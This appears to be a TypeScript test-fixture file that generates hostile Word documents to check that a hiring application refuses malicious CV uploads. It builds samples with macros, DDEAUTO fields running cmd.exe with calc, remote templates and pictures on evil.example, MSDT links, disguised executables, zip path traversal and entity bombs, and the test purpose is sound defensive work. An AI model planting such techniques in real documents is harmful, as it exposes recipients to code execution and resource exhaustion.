import { readFileSync } from 'node:fs'
import type { AttachmentRefusal } from '#domain/hiring/attachments.ts'
import { aCompoundFile, anOfficeFile, aZip, type ZipPart } from '../file-samples.ts'
import type { HostileFile } from './upload-sample.ts'
import { aField, aWordFile, wordParts, wordType, writeContentTypes } from './word-writer.ts'

const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const program = Buffer.concat([Buffer.from('MZ\x90\0\x03', 'latin1'), Buffer.alloc(500, 1)])
const oleFile = aCompoundFile('\x01Ole10Native')

const withTypes = (content: string | Buffer) => aWordFile({ typesPart: { name: '[Content_Types].xml', content } })
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

const macros: Record<string, Buffer> = {
  'a macro part': aWordFile({ parts: [{ name: 'word/vbaProject.bin', content: 'x' }] }),
  'a macro type': aWordFile({ mainType: macroType }),
  'a macro type with a decimal entity': aWordFile({ mainType: macroType.replace('E', '&#69;') }),
  'a macro type with a hexadecimal entity': aWordFile({ mainType: macroType.replace('E', '&#x45;') }),
  'a second type with macros and an entity': aWordFile({
    types: `<Override PartName="/word/x.xml" ContentType="${macroType.replace('E', '&#69;')}"/>`,
    parts: [{ name: 'word/x.xml', content: '<x/>' }],
  }),
  'a macro type in capitals': aWordFile({ mainType: macroType.toUpperCase() }),
  'a macro type in UTF-16': withTypes(
    utf16(writeContentTypes(macroType, '', '<?xml version="1.0" encoding="UTF-16"?>')),
  ),
  'macros under another name': aWordFile({
    types: '<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>',
    parts: [{ name: 'word/x.dat', content: 'x' }],
  }),
  'macros by their relationship only': aWordFile({
    links: ['http://schemas.microsoft.com/office/2006/relationships/vbaProject x.png'],
    parts: [{ name: 'word/x.png', content: 'x' }],
  }),
}

const remoteTemplate = (target: string) => aWordFile({ settingsLinks: [`!attachedTemplate ${target}`] })

const linked: Record<string, Buffer> = {
  'a template from the web': remoteTemplate('https://evil.example/x.dotm'),
  'a template from the web with entities': remoteTemplate('h&#116;tps://evil.example/x.dotm'),
  'a template from another computer': remoteTemplate('file:///\\\\evil\\share\\x.dotm'),
  'a template from another computer by its host': remoteTemplate('file://evil/share/x.dotm'),
  'a picture from the web': aWordFile({ links: ['!image https://evil.example/x.png'] }),
  'an address in a picture without a relationship': aWordFile({
    body: '<w:p><w:r><w:pict><v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape></w:pict></w:r></w:p>',
  }),
  'a link that is used as a picture': aWordFile({
    links: ['!hyperlink https://evil.example/x.png'],
    body: '<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>',
  }),
  'an object from the web': aWordFile({ links: ['!oleObject https://evil.example/x.html!'] }),
  'a frame from the web': aWordFile({ links: ['!frame https://evil.example/x.html'] }),
  'a document from the web': aWordFile({ links: ['!subDocument https://evil.example/x.docx'] }),
  DDE: aWordFile({
    body: '<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot;"><w:r><w:t>!</w:t></w:r></w:fldSimple></w:p>',
  }),
  DDEAUTO: aWordFile({ body: aField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') }),
  'DDEAUTO in pieces': aWordFile({ body: aField('DD', 'E', 'AU', 'TO ', 'cmd "/k calc"') }),
  'DDEAUTO in small letters': aWordFile({ body: aField(' ddeauto cmd') }),
  'a field whose name is a field': aWordFile({
    body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  }),
  'a field that never ends': aWordFile({
    body: '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>',
  }),
  'a picture by a field': aWordFile({ body: aField(' INCLUDEPICTURE "https://evil.example/x.png" \\d') }),
  'another file by a field': aWordFile({ body: aField(' INCLUDETEXT "\\\\\\\\evil\\\\x.docx"') }),
}

const objects: Record<string, Buffer> = {
  'an OLE object': aWordFile({
    types: '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
    links: ['oleObject embeddings/oleObject1.bin'],
    parts: [{ name: 'word/embeddings/oleObject1.bin', content: oleFile }],
  }),
  'an OLE object as a picture': aWordFile({ parts: [{ name: 'word/media/image1.png', content: oleFile }] }),
  'a program': aWordFile({
    links: ['package embeddings/setup.exe'],
    parts: [{ name: 'word/embeddings/setup.exe', content: program }],
  }),
  'a program as a picture': aWordFile({ parts: [{ name: 'word/media/image1.png', content: program }] }),
  'a program as a font': aWordFile({
    types: '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>',
    parts: [{ name: 'word/fonts/font1.odttf', content: program }],
  }),
  'another document': aWordFile({
    links: ['package embeddings/x.docx'],
    parts: [{ name: 'word/embeddings/x.docx', content: aWordFile() }],
  }),
  ActiveX: aWordFile({
    types: '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
    links: ['control activeX/activeX1.xml'],
    parts: [{ name: 'word/activeX/activeX1.xml', content: '<ax:ocx xmlns:ax="x"/>' }],
  }),
  'HTML by altChunk': aWordFile({
    links: ['aFChunk x.html'],
    body: '<w:altChunk r:id="rId1"/>',
    parts: [{ name: 'word/x.html', content: '<html/>' }],
  }),
  'a script file': aWordFile({ parts: [{ name: 'word/media/x.js', content: 'WScript.Shell' }] }),
  'a chart with a program': aWordFile({
    types:
      '<Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
    parts: [
      { name: 'word/charts/chart1.xml', content: '<c:chartSpace xmlns:c="x"/>' },
      {
        name: 'word/charts/_rels/chart1.xml.rels',
        content:
          '<Relationships><Relationship Id="r" Type="http://x/package" Target="../embeddings/a.xlsx"/></Relationships>',
      },
      { name: 'word/embeddings/a.xlsx', content: program },
    ],
  }),
}

const scripts: Record<string, Buffer> = {
  'an add-in': aWordFile({
    links: ['http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes x.xml'],
    parts: [{ name: 'word/x.xml', content: '<x/>' }],
  }),
}

const actions: Record<string, Buffer> = {
  'a link that runs a script': aWordFile({ links: ['!hyperlink javascript:alert(1)'] }),
  'a link that starts a tool': aWordFile({ links: ['!hyperlink ms-msdt:/id PCWDiagnostic'] }),
}

/** Changes bytes of the header of the first entry, of which the directory has a copy. */
function changeLocalHeader(zip: Buffer, change: (header: Buffer) => void): Buffer {
  const copy = Buffer.from(zip)
  change(copy)
  return copy
}

const insertBefore = (zip: Buffer, at: number, inserted: Buffer) => {
  const copy = Buffer.concat([zip.subarray(0, at), inserted, zip.subarray(at)])
  const end = copy.length - 22
  copy.writeUInt32LE(copy.readUInt32LE(end + 16) + inserted.length, end + 16)
  return copy
}
const directoryOf = (zip: Buffer) => zip.readUInt32LE(zip.length - 6)
const plain = aWordFile()

const mixed: Record<string, Buffer> = {
  'data between the entries and the directory': insertBefore(plain, directoryOf(plain), Buffer.from('<script>')),
  'data after the end': Buffer.concat([plain, Buffer.from('<script>alert(1)</script>')]),
}

const repeated = (part: ZipPart) => aZip([...wordParts(), part])

const broken: Record<string, Buffer> = {
  'another name in the header than in the directory': changeLocalHeader(plain, (zip) => zip.write('X', 30)),
  'another size in the header than in the directory': changeLocalHeader(plain, (zip) => zip.writeUInt32LE(7, 22)),
  'a part twice': repeated({ name: 'word/document.xml', content: '<x/>' }),
  'a part twice in other letters': repeated({ name: 'WORD/Document.xml', content: '<x/>' }),
  'a name outside of the archive': repeated({ name: '../../evil.xml', content: '<x/>' }),
  'XML that does not end': aWordFile({ body: '<w:p>' }),
  'an unknown entity': aWordFile({ body: '<w:p>&evil;</w:p>' }),
  'half a document': plain.subarray(0, 300),
}

const entityBomb = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>`

const bombs: Record<string, () => Buffer> = {
  'a part of 61 MB': () => aWordFile({ parts: [{ name: 'word/media/a.bmp', content: Buffer.alloc(61_000_000) }] }),
  'a declared size of 60 MB': () =>
    aWordFile({ parts: [{ name: 'word/x.xml', content: 'x', declaredBytes: 60_000_001 }] }),
  'two thousand parts': () => aWordFile({ parts: Array.from({ length: 2000 }, (_, index) => ({ name: `x${index}` })) }),
  'entities that contain each other': () =>
    aWordFile({ parts: [{ name: 'customXml/item1.xml', content: entityBomb }] }),
  'a thousand nested elements': () => aWordFile({ body: '<w:p>'.repeat(1000) + '</w:p>'.repeat(1000) }),
}

const types: Record<string, Buffer> = {
  'a spreadsheet': anOfficeFile('xl'),
  'a template': aWordFile({ mainType: `${wordType}.template.main+xml` }),
  'a document of LibreOffice': aZip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
    { name: 'content.xml', content: '<x/>' },
  ]),
}

const wordFixture = () => readFileSync('tests/fixtures/uploads/libreoffice-97.doc')
/** Replaces the address of the link in the document of the fixture by other text of the same length. */
function withFieldText(instruction: string): Buffer {
  const bytes = wordFixture()
  const original = 'HYPERLINK "https://www.krume.example/jobs/baeckerin-in-vollzeit"'
  for (const encoding of ['latin1', 'utf16le'] as const) {
    const at = bytes.indexOf(Buffer.from(original, encoding))
    if (at >= 0) {
      bytes.write(instruction.padEnd(original.length), at, encoding)
      return bytes
    }
  }
  throw new Error('The fixture has no link')
}

/** The same document with one more entry in its directory. */
function withEntry(name: string): Buffer {
  const bytes = wordFixture()
  const directory = Buffer.alloc(512)
  directory.write(name, 'utf16le')
  directory.writeUInt16LE((name.length + 1) * 2, 64)
  directory.writeUInt8(1, 66)
  return Buffer.concat([bytes, directory])
}

function withFlag(flag: number): Buffer {
  const bytes = wordFixture()
  const document = bytes.indexOf(Buffer.from([0xec, 0xa5]), 512)
  bytes.writeUInt16LE(bytes.readUInt16LE(document + 10) | flag, document + 10)
  return bytes
}

const oldDocuments = (): [what: string, bytes: Buffer, reason: AttachmentRefusal][] => [
  ['macros', withEntry('Macros'), 'fileHasMacros'],
  ['macros in other letters', withEntry('_vba_project_CUR'), 'fileHasMacros'],
  ['an object', withEntry('\x01Ole10Native'), 'fileHasObjects'],
  ['DDEAUTO', withFieldText('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), 'fileHasLinkedContent'],
  ['DDE in small letters', withFieldText(' dde cmd "/k calc"'), 'fileHasLinkedContent'],
  ['a password', withFlag(0x0100), 'fileLocked'],
  ['a spreadsheet', aCompoundFile('Workbook'), 'fileTypeRefused'],
  ['a mail', aCompoundFile('__properties_version1.0', '__nameid_version1.0'), 'fileTypeRefused'],
  ['only its directory', aCompoundFile('WordDocument', '1Table'), 'fileBroken'],
  ['a new document with a password', aCompoundFile('EncryptionInfo', 'EncryptedPackage'), 'fileLocked'],
]

const named = (kind: string, name: string) => (files: Record<string, Buffer>, reason: AttachmentRefusal) =>
  Object.entries(files).map(([what, bytes]): HostileFile => ({ what: `${kind}: ${what}`, name, bytes, reason }))
const toDocx = named('docx', 'Lebenslauf.docx')

/** A function, because the bombs need much memory while they are created. */
export const createHostileOfficeFiles = (): HostileFile[] => [
  ...toDocx(macros, 'fileHasMacros'),
  ...toDocx(linked, 'fileHasLinkedContent'),
  ...toDocx(objects, 'fileHasObjects'),
  ...toDocx(scripts, 'fileHasScripts'),
  ...toDocx(actions, 'fileHasActions'),
  ...toDocx(mixed, 'fileHasExtraData'),
  ...toDocx(broken, 'fileBroken'),
  ...toDocx(types, 'fileTypeRefused'),
  ...toDocx(Object.fromEntries(Object.entries(bombs).map(([what, create]) => [what, create()])), 'fileTooComplex'),
  ...oldDocuments().flatMap(([what, bytes, reason]) => named('doc', 'Lebenslauf.doc')({ [what]: bytes }, reason)),
]
